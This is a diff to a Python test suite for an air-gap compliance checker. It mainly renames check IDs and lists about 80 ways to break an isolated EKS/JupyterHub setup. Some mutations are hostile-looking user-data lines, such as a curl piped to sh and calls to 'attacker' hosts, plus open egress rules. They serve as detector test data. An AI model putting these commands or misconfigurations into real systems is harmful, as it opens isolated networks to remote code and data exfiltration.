@@ -76,7 +76,7 @@ def whole() -> tuple[StackConfig, Resources]:
 
 def faults(stack: StackConfig, resources: Resources) -> list[tuple[str, str]]:
     return [
-        (finding.id.removeprefix("airgap-"), finding.message)
+        (finding.id, finding.message)
         for finding in proof(stack, resources)
         if finding.status not in ("pass", "skip")
     ]
@@ -216,42 +216,42 @@ ANY = {"ipProtocol": "-1", "securityGroupId": "${cluster-nodes-group.id}"}
 #: A way to break the correct plan, and the rule that it breaks.
 MUTATIONS: dict[str, tuple[str, Change]] = {
     "an internet gateway": (
-        "gateways",
+        "airgap-gateways",
         added("aws:ec2/internetGateway:InternetGateway", vpcId="${network-vpc.id}"),
     ),
     "a NAT gateway": (
-        "gateways",
+        "airgap-gateways",
         added("aws:ec2/natGateway:NatGateway", subnetId="${network-private-a.id}"),
     ),
     "an egress-only gateway": (
-        "gateways",
+        "airgap-gateways",
         added(
             "aws:ec2/egressOnlyInternetGateway:EgressOnlyInternetGateway", vpcId="${network-vpc.id}"
         ),
     ),
-    "an elastic address": ("gateways", added("aws:ec2/eip:Eip", domain="vpc")),
+    "an elastic address": ("airgap-gateways", added("aws:ec2/eip:Eip", domain="vpc")),
     "a VPN gateway": (
-        "gateways",
+        "airgap-gateways",
         added("aws:ec2/vpnGateway:VpnGateway", vpcId="${network-vpc.id}"),
     ),
     "a subnet with public addresses": (
-        "gateways",
+        "airgap-gateways",
         changed(SUBNET, "private-b", put("mapPublicIpOnLaunch", value=True)),
     ),
     "a subnet with IPv6": (
-        "gateways",
+        "airgap-gateways",
         changed(SUBNET, "private-b", put("assignIpv6AddressOnCreation", value=True)),
     ),
     "a VPC with IPv6": (
-        "gateways",
+        "airgap-gateways",
         changed("aws:ec2/vpc:Vpc", "vpc", put("assignGeneratedIpv6CidrBlock", value=True)),
     ),
     "a runner with a public address": (
-        "gateways",
+        "airgap-gateways",
         changed("aws:ec2/instance:Instance", "runner", put("associatePublicIpAddress", value=True)),
     ),
     "nodes with a public address": (
-        "gateways",
+        "airgap-gateways",
         changed(
             TEMPLATE,
             "memory-spot",
@@ -259,15 +259,15 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a default route": (
-        "routes",
+        "airgap-routes",
         changed(ROUTE, "corporate-a", put("destinationCidrBlock", value="0.0.0.0/0")),
     ),
     "half a default route": (
-        "routes",
+        "airgap-routes",
         changed(ROUTE, "corporate-a", put("destinationCidrBlock", value="128.0.0.0/1")),
     ),
     "an IPv6 default route": (
-        "routes",
+        "airgap-routes",
         added(
             ROUTE,
             destinationIpv6CidrBlock="::/0",
@@ -276,15 +276,15 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a route to nobody's network": (
-        "routes",
+        "airgap-routes",
         changed(ROUTE, "corporate-a", put("destinationCidrBlock", value="10.201.0.0/16")),
     ),
     "a route to an internet gateway": (
-        "routes",
+        "airgap-routes",
         changed(ROUTE, "corporate-a", put("gatewayId", value="igw-0123456789abcdef0")),
     ),
     "a route inside a table": (
-        "routes",
+        "airgap-routes",
         changed(
             TABLE,
             "private-a",
@@ -292,7 +292,7 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "another transit gateway": (
-        "peer-networks",
+        "airgap-peer-networks",
         changed(
             "aws:ec2transitgateway/vpcAttachment:VpcAttachment",
             "tgw",
@@ -300,15 +300,15 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a peering that nobody declared": (
-        "peer-networks",
+        "airgap-peer-networks",
         added("aws:ec2/vpcPeeringConnection:VpcPeeringConnection", peerVpcId="vpc-1"),
     ),
-    "an open egress rule": ("rules", added(EGRESS, cidrIpv4="0.0.0.0/0", **ANY)),
-    "an open IPv6 egress rule": ("rules", added(EGRESS, cidrIpv6="::/0", **ANY)),
-    "the world in two halves": ("rules", added(EGRESS, cidrIpv4="0.0.0.0/1", **ANY)),
-    "egress to a public range": ("rules", added(EGRESS, cidrIpv4="52.94.0.0/22", **ANY)),
+    "an open egress rule": ("airgap-rules", added(EGRESS, cidrIpv4="0.0.0.0/0", **ANY)),
+    "an open IPv6 egress rule": ("airgap-rules", added(EGRESS, cidrIpv6="::/0", **ANY)),
+    "the world in two halves": ("airgap-rules", added(EGRESS, cidrIpv4="0.0.0.0/1", **ANY)),
+    "egress to a public range": ("airgap-rules", added(EGRESS, cidrIpv4="52.94.0.0/22", **ANY)),
     "egress inside a group": (
-        "rules",
+        "airgap-rules",
         changed(
             GROUP,
             "endpoints",
@@ -316,7 +316,7 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "an old kind of rule": (
-        "rules",
+        "airgap-rules",
         added(
             "aws:ec2/securityGroupRule:SecurityGroupRule",
             type="egress",
@@ -325,11 +325,11 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "people from the whole world": (
-        "rules",
+        "airgap-rules",
         changed(INGRESS, "balancer-from", put("cidrIpv4", value="0.0.0.0/0")),
     ),
     "nodes in EKS's own group": (
-        "nodes",
+        "airgap-nodes",
         changed(
             TEMPLATE,
             "core",
@@ -337,111 +337,117 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a runner in no group": (
-        "nodes",
+        "airgap-nodes",
         changed(
             "aws:ec2/instance:Instance", "runner", lambda inputs: inputs.pop("vpcSecurityGroupIds")
         ),
     ),
     "nodes in no group": (
-        "nodes",
+        "airgap-nodes",
         changed(TEMPLATE, "gpu-spot", lambda inputs: inputs.pop("vpcSecurityGroupIds")),
     ),
-    "no DNS firewall": ("names", dropped(ASSOCIATION, "dns")),
-    "a DNS firewall that blocks nothing": ("names", dropped(FIREWALL, "block")),
+    "no DNS firewall": ("airgap-names", dropped(ASSOCIATION, "dns")),
+    "a DNS firewall that blocks nothing": ("airgap-names", dropped(FIREWALL, "block")),
     "a DNS firewall that only warns": (
-        "names",
+        "airgap-names",
         changed(FIREWALL, "block", put("action", value="ALERT")),
     ),
     "a name outside that resolves": (
-        "names",
+        "airgap-names",
         changed(DOMAINS, "inside", lambda inputs: inputs["domains"].append("*.attacker.com")),
     ),
-    "rules in the wrong order": ("names", changed(FIREWALL, "allow", put("priority", value=30))),
+    "rules in the wrong order": (
+        "airgap-names",
+        changed(FIREWALL, "allow", put("priority", value=30)),
+    ),
     "a public API": (
-        "doors",
+        "airgap-doors",
         changed(CLUSTER, "eksCluster", put("vpcConfig", "endpointPublicAccess", value=True)),
     ),
     "no private API": (
-        "doors",
+        "airgap-doors",
         changed(CLUSTER, "eksCluster", put("vpcConfig", "endpointPrivateAccess", value=False)),
     ),
     "a balancer in the internet": (
-        "doors",
+        "airgap-doors",
         changed("aws:lb/loadBalancer:LoadBalancer", "balancer", put("internal", value=False)),
     ),
     "a service that makes a balancer": (
-        "doors",
+        "airgap-doors",
         changed("kubernetes:core/v1:Service", "entry", put("spec", "type", value="LoadBalancer")),
     ),
     "a database in the internet": (
-        "doors",
+        "airgap-doors",
         added("aws:rds/instance:Instance", publiclyAccessible=True),
     ),
-    "no endpoint for the autoscaler": ("endpoints", dropped(ENDPOINT, "-autoscaling")),
-    "no endpoint for layers": ("endpoints", dropped(ENDPOINT, "-s3")),
-    "no endpoint for pods' credentials": ("endpoints", dropped(ENDPOINT, "-eks-auth")),
-    "no endpoint for Session Manager": ("endpoints", dropped(ENDPOINT, "-ssmmessages")),
+    "no endpoint for the autoscaler": ("airgap-endpoints", dropped(ENDPOINT, "-autoscaling")),
+    "no endpoint for layers": ("airgap-endpoints", dropped(ENDPOINT, "-s3")),
+    "no endpoint for pods' credentials": ("airgap-endpoints", dropped(ENDPOINT, "-eks-auth")),
+    "no endpoint for Session Manager": ("airgap-endpoints", dropped(ENDPOINT, "-ssmmessages")),
     "an add-on that nobody knows": (
-        "endpoints",
+        "airgap-endpoints",
         changed("aws:eks/addon:Addon", "coredns", put("addonName", value="amazon-guardduty-agent")),
     ),
     "a chart that nobody knows": (
-        "endpoints",
+        "airgap-endpoints",
         changed(RELEASE, "autoscaler", put("chart", value="/opt/bundle/charts/mystery-9.59.0.tgz")),
     ),
     "S3 without a route table": (
-        "endpoints",
+        "airgap-endpoints",
         changed(ENDPOINT, "-s3", lambda inputs: inputs["routeTableIds"].pop()),
     ),
     "S3 as an interface": (
-        "endpoints",
+        "airgap-endpoints",
         changed(ENDPOINT, "-s3", put("vpcEndpointType", value="Interface")),
     ),
     "an endpoint without private names": (
-        "endpoints",
+        "airgap-endpoints",
         changed(ENDPOINT, "-ecr-api", put("privateDnsEnabled", value=False)),
     ),
     "an endpoint in no subnet": (
-        "endpoints",
+        "airgap-endpoints",
         changed(ENDPOINT, "-ecr-dkr", put("subnetIds", value=[])),
     ),
     "an endpoint twice in a zone": (
-        "endpoints",
+        "airgap-endpoints",
         changed(
             ENDPOINT, "-ec2", lambda inputs: inputs["subnetIds"].append("${network-private-a.id} ")
         ),
     ),
     "an endpoint behind another group": (
-        "endpoints",
+        "airgap-endpoints",
         changed(ENDPOINT, "-sts", put("securityGroupIds", value=["${homes-security-group.id}"])),
     ),
     "endpoints that let no node in": (
-        "endpoints",
+        "airgap-endpoints",
         dropped(INGRESS, "cluster-nodes-into-endpoints"),
     ),
     "endpoints on another port": (
-        "endpoints",
+        "airgap-endpoints",
         changed(INGRESS, "cluster-nodes-into-endpoints", put("fromPort", value=444)),
     ),
     "nodes that may not reach endpoints": (
-        "endpoints",
+        "airgap-endpoints",
         dropped(EGRESS, "cluster-nodes-to-endpoints"),
     ),
-    "nodes that may not reach S3": ("endpoints", dropped(EGRESS, "cluster-nodes-to-s3")),
-    "a runner that may not reach endpoints": ("endpoints", dropped(EGRESS, "runner-to-endpoints")),
+    "nodes that may not reach S3": ("airgap-endpoints", dropped(EGRESS, "cluster-nodes-to-s3")),
+    "a runner that may not reach endpoints": (
+        "airgap-endpoints",
+        dropped(EGRESS, "runner-to-endpoints"),
+    ),
     "an endpoint without a policy": (
-        "endpoints",
+        "airgap-endpoints",
         changed(ENDPOINT, "-kms", lambda inputs: inputs.pop("policy")),
     ),
-    "an endpoint for every account": ("endpoints", changed(ENDPOINT, "-ec2", _open_policy)),
-    "homes that nodes may not reach": ("data", dropped(EGRESS, "homes-out-of-nodes")),
-    "homes that let no node in": ("data", dropped(INGRESS, "homes-from-nodes")),
+    "an endpoint for every account": ("airgap-endpoints", changed(ENDPOINT, "-ec2", _open_policy)),
+    "homes that nodes may not reach": ("airgap-data", dropped(EGRESS, "homes-out-of-nodes")),
+    "homes that let no node in": ("airgap-data", dropped(INGRESS, "homes-from-nodes")),
     "homes on another port": (
-        "data",
+        "airgap-data",
         changed(INGRESS, "homes-from-nodes", put("toPort", value=2048)),
     ),
     "a database behind another group": (
-        "data",
+        "airgap-data",
         added(
             "aws:rds/instance:Instance",
             publiclyAccessible=False,
@@ -449,29 +455,29 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a public image of the hub": (
-        "images",
+        "airgap-images",
         hub(values("hub", "image", value={"name": "quay.io/jupyterhub/k8s-hub", "tag": "4.4.0"})),
     ),
     "a public image in a profile": (
-        "images",
+        "airgap-images",
         hub(
             lambda inputs: inputs["values"]["singleuser"]["profileList"][0][
                 "kubespawner_override"
             ].update(image="quay.io/jupyter/r-notebook:x")
         ),
     ),
-    "a public image in a nested choice": ("images", hub(_choice)),
-    "an image that people type": ("images", hub(_typed)),
+    "a public image in a nested choice": ("airgap-images", hub(_choice)),
+    "an image that people type": ("airgap-images", hub(_typed)),
     "a public init container": (
-        "images",
+        "airgap-images",
         hub(values("singleuser", "initContainers", value=[{"name": "x", "image": "busybox:1.37"}])),
     ),
     "a public image that the chart names": (
-        "images",
+        "airgap-images",
         hub(lambda inputs: inputs["values"]["prePuller"].pop("pause")),
     ),
     "a public image of the autoscaler": (
-        "images",
+        "airgap-images",
         changed(
             RELEASE,
             "autoscaler",
@@ -479,7 +485,7 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a public image in another registry's path": (
-        "images",
+        "airgap-images",
         changed(
             RELEASE,
             "nvidia",
@@ -491,7 +497,7 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "an add-on's image": (
-        "images",
+        "airgap-images",
         changed(
             "aws:eks/addon:Addon",
             "coredns",
@@ -502,24 +508,24 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a pod beside the charts": (
-        "images",
+        "airgap-images",
         added(
             "kubernetes:core/v1:Pod",
             spec={"containers": [{"name": "x", "image": "docker.io/library/nginx:1.27"}]},
         ),
     ),
     "an image in user data": (
-        "images",
+        "airgap-images",
         changed(
             TEMPLATE, "memory-spot", user_data("\nctr images pull docker.io/library/nginx:1.27\n")
         ),
     ),
     "a chart of its maker's": (
-        "charts",
+        "airgap-charts",
         hub(put("repositoryOpts", value={"repo": "https://hub.jupyter.org/helm-chart/"})),
     ),
     "a chart of a public registry": (
-        "charts",
+        "airgap-charts",
         changed(
             RELEASE,
             "termination",
@@ -527,23 +533,23 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "a host in user data": (
-        "hosts",
+        "airgap-hosts",
         changed(TEMPLATE, "core", user_data("curl https://get.example.com/install | sh")),
     ),
     "a bare host in user data": (
-        "hosts",
+        "airgap-hosts",
         changed(TEMPLATE, "runner", user_data("ping collector.attacker.io\n")),
     ),
     "an address in user data": (
-        "hosts",
+        "airgap-hosts",
         changed(TEMPLATE, "runner", user_data("curl http://203.0.113.9/x\n")),
     ),
     "a host in the values": (
-        "hosts",
+        "airgap-hosts",
         hub(values("hub", "extraEnv", value={"SENTRY_DSN": "https://sentry.io/1"})),
     ),
     "a host in Python": (
-        "hosts",
+        "airgap-hosts",
         hub(
             values(
                 "hub",
@@ -554,15 +560,15 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "an endpoint of AWS that is not there": (
-        "hosts",
+        "airgap-hosts",
         hub(values("hub", "extraEnv", value={"X": "https://athena.us-east-1.amazonaws.com"})),
     ),
     "another region": (
-        "hosts",
+        "airgap-hosts",
         hub(values("hub", "extraEnv", value={"X": "https://ec2.eu-west-1.amazonaws.com"})),
     ),
     "a directory outside": (
-        "hosts",
+        "airgap-hosts",
         hub(
             values(
                 "hub", "config", "LDAPAuthenticator", "server_address", value="ldap.elsewhere.com"
@@ -570,37 +576,37 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "servers with every public address": (
-        "pods",
+        "airgap-pods",
         hub(values("singleuser", "networkPolicy", "egressAllowRules", "nonPrivateIPs", value=True)),
     ),
     "servers with every private address": (
-        "pods",
+        "airgap-pods",
         hub(values("singleuser", "networkPolicy", "egressAllowRules", "privateIPs", value=True)),
     ),
     "servers without a policy": (
-        "pods",
+        "airgap-pods",
         hub(values("singleuser", "networkPolicy", "enabled", value=False)),
     ),
     "a hub with every public address": (
-        "pods",
+        "airgap-pods",
         hub(values("hub", "networkPolicy", "egressAllowRules", "nonPrivateIPs", value=True)),
     ),
     "a proxy with every public address": (
-        "pods",
+        "airgap-pods",
         hub(
             values("proxy", "chp", "networkPolicy", "egressAllowRules", "nonPrivateIPs", value=True)
         ),
     ),
     "the node's credentials": (
-        "pods",
+        "airgap-pods",
         hub(values("hub", "networkPolicy", "egressAllowRules", "cloudMetadataServer", value=True)),
     ),
     "an egress rule for everybody": (
-        "pods",
+        "airgap-pods",
         hub(values("singleuser", "networkPolicy", "egress", value=[{"ports": [{"port": 443}]}])),
     ),
     "an egress rule for every port": (
-        "pods",
+        "airgap-pods",
         hub(
             values(
                 "singleuser",
@@ -611,7 +617,7 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
         ),
     ),
     "an egress rule to the world": (
-        "pods",
+        "airgap-pods",
         hub(
             values(
                 "hub",
@@ -621,9 +627,12 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
             )
         ),
     ),
-    "a mirror that nobody is told of": ("mirrors", hub(values("singleuser", "extraEnv", value={}))),
+    "a mirror that nobody is told of": (
+        "airgap-mirrors",
+        hub(values("singleuser", "extraEnv", value={})),
+    ),
     "a mirror for R that is lost": (
-        "mirrors",
+        "airgap-mirrors",
         hub(lambda inputs: inputs["values"]["singleuser"]["extraFiles"].pop("cran-mirror")),
     ),
 }
@@ -632,7 +641,9 @@ MUTATIONS: dict[str, tuple[str, Change]] = {
 def test_there_are_enough_ways_to_break_it_and_each_rule_is_broken_by_one():
     assert len(MUTATIONS) >= 80
     covered = {rule for rule, _ in MUTATIONS.values()}
-    assert covered >= {law.check for law in LAWS} - {"pull", "told"} | {"mirrors"}
+    without = {"pull", "told"}  # "images" and "mirrors" say so
+    assert covered >= {f"airgap-{law.check}" for law in LAWS if law.check not in without}
+    assert "airgap-mirrors" in covered
 
 
 @pytest.mark.real
@@ -669,14 +680,14 @@ def test_a_proxy_that_is_half_told_of_is_caught(change, lacks):
     assert [
         message
         for check, message in faults(stack, Resources(change(list(resources))))
-        if check == "proxy" and lacks in message
+        if check == "airgap-proxy" and lacks in message
     ]
 
 
 def test_an_image_on_the_nodes_that_would_be_asked_for_is_caught():
     stack, resources = evaluated(*KUBEADM)
     spoilt = hub(values("hub", "image", "pullPolicy", value="IfNotPresent"))(list(resources))
-    assert [check for check, _ in faults(stack, Resources(spoilt))] == ["images"]
+    assert [check for check, _ in faults(stack, Resources(spoilt))] == ["airgap-images"]
 
 
 def a_correct_configuration(chance: random.Random) -> tuple[str, ...]:
